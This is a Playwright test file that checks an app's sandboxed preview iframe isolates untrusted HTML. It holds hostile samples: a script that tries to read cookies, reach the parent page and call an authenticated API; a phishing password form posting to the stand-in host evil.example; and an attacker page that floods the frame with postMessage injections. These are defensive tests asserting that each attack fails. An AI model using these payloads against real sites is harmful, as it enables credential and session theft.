import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { nextFrames, requestsSettled } from './support';

/**
 * The sandbox frame shows in-memory HTML with the page's own scripts running, yet in an
 * opaque origin: the page can neither read the app's cookies nor reach its DOM or API.
 */
test('the sandbox frame runs the page scripts in an opaque origin and relays only its messages', async ({
  page,
  context,
}) => {
  await page.goto('/changelog');
  await context.addCookies([{ name: 'probe', value: 'app-secret', url: page.url() }]);
  const report = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.sandbox.value = 'allow-scripts allow-forms allow-popups';
    frame.src = '/sandbox-frame?v=2';
    document.body.append(frame);
    const hostile = `<!DOCTYPE html><html><body><h1>Hi</h1><script>
      var report = { ran: true, origin: location.origin };
      try { report.cookie = document.cookie; } catch (e) { report.cookie = 'blocked'; }
      try { report.parentTitle = parent.parent.document.title; } catch (e) { report.parentTitle = 'blocked'; }
      fetch('/api/auth/user', { credentials: 'include' })
        .then(function (r) { report.api = r.status; })
        .catch(function () { report.api = 'blocked'; })
        .then(function () { parent.postMessage(report, '*'); });
    </script></body></html>`;
    return await new Promise<Record<string, unknown>>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error('no report from the page')), 8000);
      window.addEventListener('message', (event) => {
        if (event.source !== frame.contentWindow) return;
        const message = event.data as { type: string; data?: Record<string, unknown> };
        if (message.type === 'pagecraft:sandbox-ready') {
          frame.contentWindow?.postMessage({ type: 'pagecraft:sandbox-html', html: hostile }, '*');
        } else if (message.type === 'pagecraft:from-page' && message.data) {
          clearTimeout(timer);
          resolve(message.data);
        }
      });
    });
  });
  expect(report.ran).toBe(true);
  expect(report.origin).toBe('null');
  expect(report.cookie).not.toContain('app-secret');
  expect(report.parentTitle).toBe('blocked');
  // An opaque origin sends no cookies: the API sees a stranger (or the request is refused).
  expect(report.api === 401 || report.api === 'blocked').toBe(true);
});

test("no form of a page shown in the sandbox frame is submitted (form-action 'none')", async ({ page }) => {
  await page.goto('/changelog');
  const probes: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('form-probe')) probes.push(request.url());
  });
  const violation = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.sandbox.value = 'allow-scripts allow-forms allow-popups';
    frame.src = '/sandbox-frame?v=2';
    document.body.append(frame);
    const form = `<!DOCTYPE html><html><body>
      <iframe name="sink" title="sink"></iframe>
      <form id="f" method="post" target="sink" action="${location.origin}/healthz?form-probe=1">
        <input type="password" name="p" value="secret"></form>
      <script>
        document.addEventListener('securitypolicyviolation', function (event) {
          parent.postMessage({ violated: event.effectiveDirective }, '*');
        });
        document.getElementById('f').submit();
      </script></body></html>`;
    return await new Promise<unknown>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error('no report from the page')), 8000);
      window.addEventListener('message', (event) => {
        if (event.source !== frame.contentWindow) return;
        const message = event.data as { type: string; data?: unknown };
        if (message.type === 'pagecraft:sandbox-ready') {
          frame.contentWindow?.postMessage({ type: 'pagecraft:sandbox-html', html: form }, '*');
        } else if (message.type === 'pagecraft:from-page') {
          clearTimeout(timer);
          resolve(message.data);
        }
      });
    });
  });
  expect(violation).toEqual({ violated: 'form-action' });
  await requestsSettled(page);
  expect(probes).toEqual([]);
});

/** A page that would pose as the app: a heading to find and a password form. */
const PHISHING =
  '<h1 id="x">pwned</h1><form action="https://evil.example/steal"><input type="password" name="p"></form>';

test('the sandbox frame opened from a link shows nothing of its URL, under a no-forms policy', async ({
  page,
}) => {
  for (const url of [
    `/sandbox-frame#${encodeURIComponent(PHISHING)}`,
    `/sandbox-frame?html=${encodeURIComponent(PHISHING)}`,
    `/sandbox-frame?v=2#${encodeURIComponent(PHISHING)}`,
  ]) {
    const response = await page.goto(url);
    expect(response?.headers()['content-security-policy']).toBe(
      "sandbox allow-scripts allow-forms allow-popups; form-action 'none'; frame-ancestors 'self'",
    );
    await expect(page.locator('#notice')).toHaveText(
      'Nothing to preview here. Previews open from inside the app.',
    );
    // Give a script every chance to have rendered something (the page and its frame loaded,
    // two frames drawn), then look everywhere.
    await page.waitForLoadState('load');
    await nextFrames(page);
    expect(await page.frameLocator('#page').locator('#x').count(), url).toBe(0);
    expect(await page.locator('#x').count(), url).toBe(0);
    expect(await page.content(), url).not.toContain('pwned');
  }
});

/**
 * A site of another origin (a tiny server on a loopback port of its own) opens the frame in a tab
 * and tries every way to have it show its page: the fragment and the query, and messages of the
 * current and the old protocol, again and again. The frame's ready message never reaches it
 * either (it is addressed to the app's origin only).
 */
test('a site of another origin cannot make the sandbox frame show its HTML', async ({
  page,
  context,
  baseURL,
}) => {
  const attacker = `<!DOCTYPE html><html><head><title>Attacker</title></head><body>
<button id="go">Open</button><pre id="received">[]</pre>
<script>
  var APP = ${JSON.stringify(baseURL)};
  var HTML = ${JSON.stringify(PHISHING)};
  var received = [];
  window.addEventListener('message', function (event) {
    received.push(event.data);
    document.getElementById('received').textContent = JSON.stringify(received);
  });
  document.getElementById('go').addEventListener('click', function () {
    var tabs = [
      window.open(APP + '/sandbox-frame#' + encodeURIComponent(HTML), '_blank'),
      window.open(APP + '/sandbox-frame?v=2&html=' + encodeURIComponent(HTML), '_blank'),
    ];
    var rounds = 0;
    var timer = setInterval(function () {
      tabs.forEach(function (tab) {
        if (!tab) return;
        tab.postMessage({ type: 'pagecraft:sandbox-html', html: HTML }, '*');
        tab.postMessage({ type: 'pagecraft:render', html: HTML }, '*');
      });
      if (++rounds >= 30) { clearInterval(timer); document.body.setAttribute('data-done', 'yes'); }
    }, 50);
  });
</script></body></html>`;
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(attacker);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = server.address() as AddressInfo;
    const site = `http://127.0.0.1:${port}`;
    expect(new URL(site).origin).not.toBe(new URL(baseURL!).origin);
    await page.goto(`${site}/`);
    const tabs: Page[] = [];
    context.on('page', (tab) => tabs.push(tab));
    await page.locator('#go').click();
    await expect(page.locator('body')).toHaveAttribute('data-done', 'yes', { timeout: 15_000 });
    await expect.poll(() => tabs.length).toBe(2);
    for (const tab of tabs) {
      await tab.waitForLoadState('load');
      expect(new URL(tab.url()).pathname).toBe('/sandbox-frame');
      expect(await tab.frameLocator('#page').locator('#x').count(), tab.url()).toBe(0);
      expect(await tab.content(), tab.url()).not.toContain('pwned');
      await tab.close();
    }
    expect(await page.locator('#received').textContent()).toBe('[]');
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});
